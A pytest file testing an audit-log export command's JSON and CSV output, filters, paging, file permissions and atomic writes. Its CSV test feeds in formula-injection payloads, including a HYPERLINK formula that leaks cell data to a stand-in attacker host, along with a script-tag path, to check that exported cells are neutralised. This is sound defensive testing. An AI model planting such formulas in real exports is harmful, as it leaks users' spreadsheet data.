from __future__ import annotations

import csv
import io
import json
import os
import stat
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from harness.operators import Operator
from harness.rows import decision, outcome
from outloop.core.ledger import DecisionRow
from outloop.store import records
from outloop.store.audit import AuditWriter
from outloop.store.records import Filters, Records


@pytest.fixture
def writer(operator: Operator) -> Iterator[AuditWriter]:
    operator.home.mkdir(mode=0o700)
    writer = AuditWriter(operator.home / "audit.db", time.time)
    writer.start()
    yield writer
    writer.close()


def wrote(writer: AuditWriter, **changes: object) -> DecisionRow:
    row = decision(**changes)
    writer.append_now(row)
    writer.append_now(outcome(row, status=200 if row.decision == "allow" else 403))
    return row


def exported(operator: Operator, *arguments: str) -> list[dict[str, object]]:
    return [json.loads(line) for line in operator.outloop("audit", "export", *arguments).splitlines()]


def test_a_line_has_the_columns_of_the_view_in_their_order(operator: Operator, writer: AuditWriter) -> None:
    rows = [wrote(writer), wrote(writer, decision="deny", reason="path_not_allowed", path="/\u202e<script>")]

    shown = exported(operator)

    assert [row["id"] for row in shown] == [row.id for row in rows]
    assert shown == json.loads(operator.outloop("audit", "tail", "--json"))
    assert [list(row) for row in shown] == [list(operator.rows()[0])] * 2


def test_csv_is_read_by_another_program_as_it_was_meant(operator: Operator, writer: AuditWriter) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "-1", "@SUM(A1)", 'a";=1', "/plain, with \u2028"]
    for text in hostile:
        wrote(writer, path=text)

    printed = operator.run("audit", "export", "--format", "csv").stdout.encode()
    header, *rows = csv.reader(io.StringIO(operator.outloop("audit", "export", "--format", "csv"), newline=""))

    assert header == list(operator.rows()[0])
    paths = [row[header.index("path")] for row in rows]
    assert [path.removeprefix("'").replace("\\u2028", "\u2028") for path in paths] == hostile
    assert not any(path.startswith(("=", "+", "-", "@")) for path in paths)
    assert len(printed.splitlines()) == 7


def test_lines_of_csv_end_as_rfc_4180_says(operator: Operator, writer: AuditWriter) -> None:
    wrote(writer)
    command = [sys.executable, "-m", "outloop", "audit", "export", "--format", "csv"]
    printed = subprocess.run(command, capture_output=True, env=operator.variables, check=True).stdout

    assert printed.count(b"\r\n") == printed.count(b"\n") == 2


@pytest.mark.parametrize(
    ("arguments", "shown"),
    [
        pytest.param(["--denied"], [1], id="denied"),
        pytest.param(["-w", "globex"], [1], id="workspace"),
        pytest.param(["--service", "posthog"], [2], id="service"),
        pytest.param(["--since", "2030-05-01"], [1, 2], id="since"),
        pytest.param(["--until", "2030-05-01"], [0], id="until"),
        pytest.param(["--since", "2030-05-01", "--until", "2030-06-01"], [1], id="between"),
        pytest.param(["--until", "2020-01-01"], [], id="none"),
    ],
)
def test_filters_choose_rows(operator: Operator, writer: AuditWriter, arguments: list[str], shown: list[int]) -> None:
    rows = [
        wrote(writer, at="2030-04-30T23:59:59.999Z"),
        wrote(writer, at="2030-05-01T00:00:00.000Z", workspace="globex", decision="deny", reason="path_not_allowed"),
        wrote(writer, at="2030-06-01T00:00:00.000Z", service="posthog"),
    ]

    assert [row["id"] for row in exported(operator, *arguments)] == [rows[index].id for index in shown]


def test_rows_are_read_in_pages_without_a_row_twice_or_missing(
    operator: Operator, writer: AuditWriter, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(records, "PAGE_ROWS", 3)
    ids = [wrote(writer).id for _ in range(10)]
    reading = Records(operator.home / "audit.db").each(Filters())

    seen = [next(reading)["id"]]
    wrote(writer)  # what comes later is another export's
    seen += [row["id"] for row in reading]

    assert seen == ids


def test_a_file_is_the_operators_alone_and_takes_the_place_of_the_one_before(operator: Operator, writer: AuditWriter) -> None:
    row = wrote(writer)
    target = operator.folder / "audit.jsonl"
    target.write_text("before")
    target.chmod(0o644)

    done = operator.run("audit", "export", "-o", str(target))

    assert (done.returncode, done.stdout) == (0, "")
    assert json.loads(target.read_text())["id"] == row.id
    assert stat.S_IMODE(target.stat().st_mode) == 0o600


@pytest.mark.parametrize("existed", [True, False])
def test_a_failure_leaves_no_partial_file(operator: Operator, writer: AuditWriter, existed: bool) -> None:
    for _ in range(50):
        wrote(writer, path="/" + "x" * 10_000)
    folder = operator.folder / "out"
    folder.mkdir()
    target = folder / "audit.csv"
    if existed:
        target.write_text("before")
    script = f"""
import resource, signal, sys
resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000))
from outloop.cli.main import main
sys.exit(main(["audit", "export", "--format", "csv", "-o", {str(target)!r}]))
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=operator.variables, check=False)

    assert done.returncode == 2
    assert done.stderr.startswith("outloop: error: file too large")
    assert [file.name for file in folder.iterdir()] == (["audit.csv"] if existed else [])
    assert not existed or target.read_text() == "before"


def test_a_killed_export_leaves_the_file_before_it(operator: Operator, writer: AuditWriter) -> None:
    wrote(writer)
    target = operator.folder / "audit.jsonl"
    target.write_text("before")
    script = f"""
import os
from outloop.cli.main import main
from outloop.store.records import Records
each = Records.each
def cut(self, filters):
    yield from each(self, filters)
    os.kill(os.getpid(), 9)
Records.each = cut
main(["audit", "export", "-o", {str(target)!r}])
"""
    done = subprocess.run([sys.executable, "-c", script], capture_output=True, env=operator.variables, check=False)

    assert done.returncode == -9
    assert target.read_text() == "before"


@pytest.mark.parametrize("output", ["/dev/null", "."])
def test_only_a_regular_file_is_replaced(operator: Operator, writer: AuditWriter, output: str) -> None:
    wrote(writer)

    done = operator.run("audit", "export", "-o", output)

    assert done.returncode == 2
    assert "is not a regular file" in done.stderr
    assert Path(os.devnull).is_char_device()


def test_a_reader_that_goes_away_ends_it_quietly(operator: Operator, writer: AuditWriter) -> None:
    for _ in range(200):
        wrote(writer, path="/" + "x" * 10_000)
    command = [sys.executable, "-m", "outloop", "audit", "export"]
    process = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.PIPE, env=operator.variables)
    assert process.stdout is not None
    process.stdout.readline()
    process.stdout.close()

    assert process.wait(30) == 1
    assert process.stderr is not None
    assert process.stderr.read() == b""


def test_without_a_record_it_says_so_and_writes_nothing(operator: Operator) -> None:
    done = operator.run("audit", "export", "-o", str(operator.folder / "audit.jsonl"))

    assert done.returncode == 2
    assert "no audit record" in done.stderr
    assert not (operator.folder / "audit.jsonl").exists()
